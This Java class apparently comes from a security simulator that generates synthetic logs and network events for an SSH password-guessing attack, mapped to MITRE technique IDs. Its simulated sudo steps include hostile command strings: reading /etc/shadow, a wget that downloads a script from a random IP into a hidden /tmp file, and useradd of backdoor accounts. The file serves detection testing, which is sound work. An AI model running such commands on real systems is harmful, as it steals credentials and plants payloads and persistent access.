package dev.vigil.simulate;

import java.util.List;

/**
 * Password guessing against a Linux server from one internet address: many failed passwords (some for invalid
 * users), then an accepted password, an interactive session and sudo.
 */
final class SshBruteForce implements AttackChain {

    private static final List<String> INVALID = List.of("admin", "test", "oracle", "user", "postgres", "ftp", "ubnt");

    @Override
    public SimulationSummary.Attack plant(Context ctx, Rng rng, String attackId, long at) {
        List<Host> linux = ctx.world().hosts(Host.Role.LINUX_SERVER);
        if (linux.isEmpty()) {
            return null;
        }
        Host h = rng.pick(linux);
        List<Account> admins = ctx.world().admins();
        String victim = admins.isEmpty() || rng.chance(0.3) ? "ubuntu" : rng.pick(admins).name();
        int uid = victim.equals("ubuntu") ? 1000 : admins.stream().filter(x -> x.name().equals(victim)).findFirst()
                .map(Account::uid).orElse(1000);
        String ip = rng.publicIp();
        Steps steps = new Steps(attackId, AttackKind.SSH_BRUTE_FORCE);
        Timeline.Step guess = steps.next("T1110.001", "credential-access");
        int attempts = rng.between(25, 180);
        long t = at;
        int perConn = rng.between(1, 6);
        int pid = 0;
        int port = 0;
        for (int i = 0; i < attempts; i++) {
            if (i % perConn == 0) {
                pid = rng.between(2_000, 400_000);
                port = rng.between(1024, 65535);
                long flow = ctx.net().tcp(ctx.tl(), rng, t - 150_000, guess, ip, port, h.ip(), 22, "ssh", null,
                        rng.between(1_500, 6_000), rng.between(1_800, 6_000), 1 + rng.exp(4));
                if (i > 0 && rng.chance(0.2)) {
                    ctx.net().alert(ctx.tl(), t - 100_000, guess, flow, ip, port, h.ip(), 22, 2001219,
                            "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2);
                }
            }
            boolean invalid = rng.chance(0.35);
            String u = invalid ? rng.pick(INVALID) : victim;
            String tag = "sshd[" + pid + "]";
            if (invalid && i % perConn == 0) {
                Linux.auth(ctx.tl(), t - 100_000, guess, h, tag, "Invalid user " + u + " from " + ip + " port " + port);
            }
            Linux.auth(ctx.tl(), t, guess, h, tag, "Failed password for " + (invalid ? "invalid user " : "") + u + " from "
                    + ip + " port " + port + " ssh2");
            t += rng.between(300_000, 4_000_000);
        }
        Timeline.Step in = steps.next("T1078", "initial-access");
        int p = rng.between(1024, 65535);
        ctx.net().tcp(ctx.tl(), rng, t - 150_000, in, ip, p, h.ip(), 22, "ssh", null, rng.between(8_000, 90_000),
                rng.between(20_000, 900_000), 60 + rng.exp(400));
        LinuxSession s = new LinuxSession(ctx, rng, h, victim, uid);
        long ready = s.open(t, in, ip, p, false);
        Timeline.Step priv = steps.next("T1548.003", "privilege-escalation");
        long t2 = ready + rng.between(3_000_000, 60_000_000);
        s.sudo(t2, priv, rng.pick("/bin/bash", "/usr/bin/su -", "/bin/cat /etc/shadow", "/usr/bin/id"));
        s.sudo(t2 + rng.between(5_000_000, 60_000_000), priv, rng.pick("/usr/bin/wget -q http://" + rng.publicIp() + "/"
                + rng.alpha(4) + ".sh -O /tmp/." + rng.alpha(3), "/usr/bin/crontab -l", "/usr/sbin/useradd -m -s /bin/bash "
                + rng.pick("sysadm", "backup2", "dev")));
        s.close(t2 + rng.between(70_000_000, 600_000_000), priv);
        return new SimulationSummary.Attack(attackId, AttackKind.SSH_BRUTE_FORCE, AttackChain.instant(at), h.name(), victim);
    }
}
